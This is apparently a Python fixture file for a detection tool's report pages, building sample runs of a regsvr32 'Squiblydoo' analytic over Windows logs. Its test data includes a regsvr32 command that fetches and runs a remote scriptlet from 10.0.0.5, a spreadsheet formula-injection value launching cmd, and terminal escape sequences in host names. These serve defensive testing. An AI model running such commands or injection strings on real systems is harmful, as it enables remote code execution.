"""Runs built by hand, one for each thing a page must show well."""

from datetime import date

from msgspec.structs import replace

from carhound.findings.prevalence import Prevalence
from carhound.findings.reasons import Reason
from carhound.findings.run import (
    LEFT_OUT_LATER,
    Evidence,
    Rows,
    Run,
    Suppressed,
    TwinDifference,
    Twins,
    WindowUsed,
)
from carhound.findings.silence import HostSilence, Silence
from carhound.findings.suppressions import Suppression, Suppressions
from carhound.model.diagnostics import Diagnostic, Source, Span
from carhound.model.evidence import Damage, Remark, Skipped

from .sample_parts import (
    HOSTILE,
    INFO,
    LOAD,
    LOAD_P,
    MAIN,
    MAIN_P,
    NAMES,
    NEW,
    REGSVR32,
    SPAWN,
    SPAWN_P,
    analytic,
    caret,
    file,
    host,
    implementation,
    module,
    process,
    run,
    time,
)

HOLE = Diagnostic(
    "CAR-2019-04-002/D02",
    "the baseline ends 30 days before today: what was seen in the 29 days between is called new",
    "warning",
    Span(0, 4),
    Source("index=x earliest=-60d@d", "analytics/CAR-2019-04-002.yaml", 61, 6),
    "--reading corrected moves the baseline to the 30 days before the main window",
    3,
)
WINDOWS_TEMP = Diagnostic(
    "CAR-2019-04-002/D19",
    r"ImageLoaded!=C:\Windows\* also hides folders that every user can write to, such as C:\Windows\Temp and"
    r" C:\Windows\Tasks",
    "warning",
    count=2,
)
ALIAS = Diagnostic(
    "SPL-A1", "ComputerName was read from Computer, since events have no ComputerName", "note", count=4
)

BLIND = Diagnostic(
    "RUN-J1",
    "not judged on 2 files, where no eligible event carries ParentImage: logs/a.json, logs/b.json",
    count=40,
)

SEEN = Prevalence(
    ("CommandLine",),
    (r'"C:\Windows\System32\calc.exe"',),
    2,
    3,
    time("2018-11-30T08:00:00"),
    time("2018-12-04T09:12:44.123"),
)
FOLDED = Prevalence(("normal_command_line",), (HOSTILE.lower(),), 1, 1, None, None, 4)
REASONS = (
    Reason("url-or-unc-source", "look", 'regsvr32 was given a URL: "http://10.0.0.5/file.sct"'),
    Reason("scriptlet", "look", 'regsvr32 was told to use "scrobj.dll", which runs scriptlets'),
    Reason("network-after-load", "look", "regsvr32.exe connected to 10.0.0.5:80 at 2018-12-04T09:12:43.9Z"),
    Reason("rare-across-hosts", "look", "this CommandLine was met on 1 of 40 hosts"),
    Reason("several-implementations", "context", "found by 2 patterns: Main Pattern, New items"),
)
SILENT = Silence(30, 3, (HostSilence("WS-\x1b[31m7", 30), HostSilence("DC-01", 12), HostSilence(None, 2)))

WINDOWS = (
    WindowUsed("main", time("2018-12-03T00:00"), time("2018-12-04T12:00"), 61, 35),
    WindowUsed("baseline", time("2018-10-05T00:00"), time("2018-11-04T00:00"), 62, 8, SILENT),
)


def findings_run() -> Run:
    """Findings in all patterns, a twin difference, aggregates, notes, hostile text, three kinds of host."""
    calc = process(12, prevalence=SEEN, reasons=REASONS)
    hostile = process(
        13,
        command=HOSTILE,
        computer="WS-\x1b[31m7",
        prevalence=FOLDED,
        reasons=(
            Reason("encoded-command", "look", f'the command line hides a command in Base64: "{HOSTILE}"'),
            Reason("common", "ordinary", "this CommandLine was met on 9 of 12 hosts"),
        ),
    )
    renamed = process(
        21,
        parent=r"C:\Users\Public\Downloads\tools and more tools\myregsvr32.exe",
        image=r"C:\Users\Public\Downloads\tools and more tools\payload.exe",
        command="payload.exe " + "-enc " + "QQBCAEMA" * 40,
        implementations=(MAIN_P,),
    )
    bare = process(
        22,
        command=None,
        computer=None,
        time=None,
        native={},
        car={"parent_image_path": REGSVR32},
        provider="Microsoft-Windows-Security-Auditing",
        event_id="4688",
        implementations=(MAIN_P, SPAWN_P),
    )
    loaded = module(1)
    spawned = Rows(
        ("Computer Name", "Parent Command Line", "Image", "ImageCount"),
        (
            (
                ("WS-0042.corp.example", "WS-\x1b[31m7"),
                ("regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll",),
                r"C:\Windows\System32\calc.exe",
                2,
            ),
        ),
    )
    images = Rows(
        ("Computer Name", "ImageLoaded", "ImageLoadedCount"),
        ((None, r"C:\Users\alice\AppData\Local\Temp\AllTheThingsx86.dll", 1),),
    )
    result = analytic(
        implementation(MAIN, calc, hostile),
        implementation(MAIN_P, calc, hostile, renamed, bare, eligible=1216),
        implementation(NEW, calc, eligible=1204, windows=WINDOWS, outside_window=1, diagnostics=(HOLE,)),
        implementation(SPAWN, calc, hostile, table=spawned, diagnostics=(ALIAS,)),
        implementation(SPAWN_P, calc, hostile, bare, eligible=1216),
        implementation(LOAD, loaded, table=images, eligible=482, diagnostics=(WINDOWS_TEMP, ALIAS)),
        implementation(LOAD_P, loaded, eligible=482, diagnostics=(WINDOWS_TEMP,)),
        twins=(
            Twins(
                MAIN,
                MAIN_P,
                False,
                (),
                (
                    TwinDifference(renamed.id, "regsvr32.exe", None),
                    TwinDifference(bare.id, "EventCode=1", "4688"),
                    TwinDifference("77" * 32, LEFT_OUT_LATER, None),
                ),
            ),
            Twins(SPAWN, SPAWN_P, False, (), (TwinDifference(bare.id, "EventCode=1", "4688"),)),
            Twins(LOAD, LOAD_P, True),
        ),
    )
    return run(
        result,
        findings=(calc, hostile, renamed, bare, loaded),
        hosts=(
            host("WS-0042.corp.example", 21340, 120, 3240, NAMES),
            host("WS-\x1b[31m7", 1204, 40, 0, (MAIN, MAIN_P, NEW, SPAWN, SPAWN_P)),
            host(
                "DC-01.corp.example",
                90412,
                0,
                0,
                (MAIN_P, SPAWN_P),
                security_4688=310,
                security_4688_with_command_line=0,
            ),
            host("FS-01.corp.example", 812, 0, 0, (), security_4688=0, security_4688_with_command_line=0),
            host(
                None, 3, 0, 0, (), first=None, last=None, security_4688=0, security_4688_with_command_line=0
            ),
        ),
        evidence=Evidence(
            (
                file("logs/ws42/Microsoft-Windows-Sysmon%4Operational.evtx", events=21340),
                file(
                    "logs/ws42.zip/sysmon.json",
                    "winlogbeat7",
                    92000,
                    duplicates=2,
                    remarks=(Remark("READ-Z1", "times without a zone were read as UTC"),),
                ),
            ),
            ("logs/LICENSE", "logs/picture.png"),
        ),
    )


def suppressed_run() -> Run:
    """Findings of which two are suppressed, by one of three entries; one twin differs on a suppressed one."""
    calc, told, differs = process(12), process(13), process(14, implementations=(MAIN_P,))
    loaded = module(1)
    entries = (
        Suppression((("Image", "*calc.exe"),), "packaging test", "alice", date(2019, 1, 31), 2),
        Suppression((("ImageLoaded", "*"),), HOSTILE, "bob", date(2019, 1, 31), 6),
        Suppression((("id", "00"),), "gone", "bob", date(2019, 1, 31), 10),
    )
    result = analytic(
        implementation(MAIN, calc, told),
        implementation(MAIN_P, calc, told, differs),
        implementation(LOAD, loaded),
        twins=(Twins(MAIN, MAIN_P, False, (), (TwinDifference(differs.id, "regsvr32.exe", None),)),),
    )
    made = run(result, findings=(calc,))
    return replace(
        made,
        suppressions=Suppressions("suppressions.yaml", entries),
        suppressed=(
            Suppressed(told, entries[0]),
            Suppressed(differs, entries[0]),
            Suppressed(loaded, entries[1]),
        ),
    )


def quiet_run() -> Run:
    """Nothing found, everything judged."""
    return run(
        analytic(
            *(implementation(name, eligible=482 if "Load" in name else 120) for name in (MAIN, MAIN_P)),
            implementation(NEW, eligible=120, windows=WINDOWS, outside_window=0, diagnostics=(HOLE,)),
            *(
                implementation(name, eligible=482 if "Load" in name else 120)
                for name in (SPAWN, SPAWN_P, LOAD, LOAD_P)
            ),
            twins=(Twins(MAIN, MAIN_P, True), Twins(SPAWN, SPAWN_P, True), Twins(LOAD, LOAD_P, True)),
        )
    )


def partial_run() -> Run:
    """Implementations that could not be evaluated, damage, things left out."""
    long = (
        'index=__your_sysmon_data__ EventCode=1 (ParentImage="C:\\\\Windows\\\\System32\\\\regsvr32.exe" OR '
        'ParentImage="C:\\\\Windows\\\\SysWOW64\\\\regsvr32.exe") | eval x=1 '
        '| transaction Image maxspan=5m | stats values(ComputerName) as "Computer Name" by Image'
    )
    unsupported = caret(
        long,
        "transaction",
        "the command `transaction` is not supported",
        "the commands there are: search, where, stats, table, rename, sort, head, top, regex",
    )
    label = Diagnostic(
        "DOC-L1",
        'carhound does not run "LogPoint" texts',
        "error",
        hint="SPL and pseudocode are run; the others are listed only",
    )
    joined = caret(
        "日本\tx = join (a, b) where (\n  a.pid == b.ppid )",
        "join",
        "`join` is parsed but not evaluated",
        code="PSC-N1",
    )
    damage = tuple(Damage(f"chunk {n}", "its checksum does not match", 4096 + 65536 * n) for n in range(9))
    reasons = (
        "no such path: logs/nowhere",
        "10 damaged parts in 2 files",
        "CAR-2019-04-002: 'Main Pattern' was not evaluated",
    )
    return run(
        analytic(
            implementation(MAIN, status="not-evaluated", eligible=0, diagnostics=(unsupported,)),
            implementation(
                MAIN_P, eligible=120, not_judged=("logs/a.json", "logs/b.json"), diagnostics=(BLIND,)
            ),
            implementation(
                "implementation 3 (LogPoint)",
                language="LogPoint",
                status="not-evaluated",
                eligible=0,
                diagnostics=(label,),
            ),
            implementation("Joined - pseudocode", status="not-evaluated", eligible=0, diagnostics=(joined,)),
            implementation(LOAD, eligible=0),
        ),
        status="partial",
        reasons=reasons,
        hosts=tuple(
            host(f"WS-{n:04d}", 1000 + n, n % 2 * 40, 0, (MAIN_P,) if n % 2 else ()) for n in range(12)
        ),
        evidence=Evidence(
            (
                file("logs/broken.evtx", damaged=damage),
                file("logs/other.evtx", damaged=(Damage("record 463011", "cut short \x1b[31m"),)),
                file(
                    "logs/inner.zip",
                    None,
                    0,
                    skipped=(
                        Skipped("deep.zip", "an archive in an archive"),
                        Skipped("secret.evtx", "encrypted"),
                    ),
                ),
                file(
                    "logs/System.evtx",
                    "evtx",
                    310,
                    eligible=0,
                    skipped=(
                        Skipped("", "not applicable: no process events in a System log", partial=False),
                    ),
                ),
            ),
            tuple(f"logs/pictures/{n}.png" for n in range(30)),
            ("logs/nowhere",),
        ),
    )


def many_run() -> Run:
    """More events and hosts than a page lists."""
    found = tuple(
        process(n % 60, id=f"{n:064x}", time=time(f"2018-12-04T{n // 60:02d}:{n % 60:02d}"))
        for n in range(450)
    )
    hosts = tuple(host(f"WS-{n:04d}", 1, 1, 0, (MAIN,)) for n in range(120))
    return run(analytic(implementation(MAIN, *found)), findings=found, hosts=hosts)


def nothing_eligible_run() -> Run:
    """Logs without a single event that a pattern could judge."""
    return run(
        analytic(
            implementation(MAIN, eligible=0),
            implementation(MAIN_P, eligible=0),
            implementation(LOAD, eligible=0),
        ),
        status="nothing-eligible",
        reasons=("no event read could have matched any implementation",),
        hosts=(host("FS-01", 310, 0, 0, (), security_4688=0, security_4688_with_command_line=0),),
        evidence=Evidence((file("logs/System.evtx", events=310, eligible=0),), ()),
    )


def backfill_run() -> Run:
    """One run for each day, two analytics, hashes."""
    calc = process(12, days=("2018-12-04", "2018-12-05"), implementations=(NEW,))
    last = tuple(
        replace(window, earliest=time("2018-12-05T00:00"), latest=time("2018-12-06T00:00"))
        for window in WINDOWS
    )
    return run(
        analytic(implementation(NEW, calc, windows=(*WINDOWS, *last), outside_window=0)),
        analytic(
            implementation("implementation 1 (spl)"), id="CAR-2019-04-003", title="Squiblydoo", d3fend=()
        ),
        findings=(calc,),
        info=replace(INFO, backfill=True, tz="Europe/Berlin", reading="corrected"),
        evidence=Evidence((file("logs/a.evtx", sha256="5a" * 32), file("logs/b.evtx", sha256="a5" * 32)), ()),
    )


def search_run() -> Run:
    """A search whose rows fit a table."""
    rows = Rows(
        ("_time", "Computer", "Image", "count", "values(User)"),
        (
            ("2018-12-04T09:12:44.123Z", "WS-0042", r"C:\Windows\System32\calc.exe", 2, ("alice", "bob")),
            ("2018-12-04T09:13:00Z", "=cmd|' /C calc'!A0", HOSTILE, 11, None),
        ),
    )
    return run(results=rows, hosts=(host("WS-0042", 1204, 120, 482, ()),))


def wide_search_run() -> Run:
    """A search whose rows are whole events."""
    fields = {f"Field{n:02d}": f"value {n}" for n in range(18)} | {"CommandLine": HOSTILE, "Image": REGSVR32}
    rows = Rows(
        tuple(fields), (tuple(fields.values()), tuple("x" if n % 2 else None for n in range(len(fields))))
    )
    return run(results=rows)


RUNS = {
    "findings": findings_run,
    "suppressed": suppressed_run,
    "quiet": quiet_run,
    "partial": partial_run,
    "nothing-eligible": nothing_eligible_run,
    "backfill": backfill_run,
    "search": search_run,
    "wide-search": wide_search_run,
}
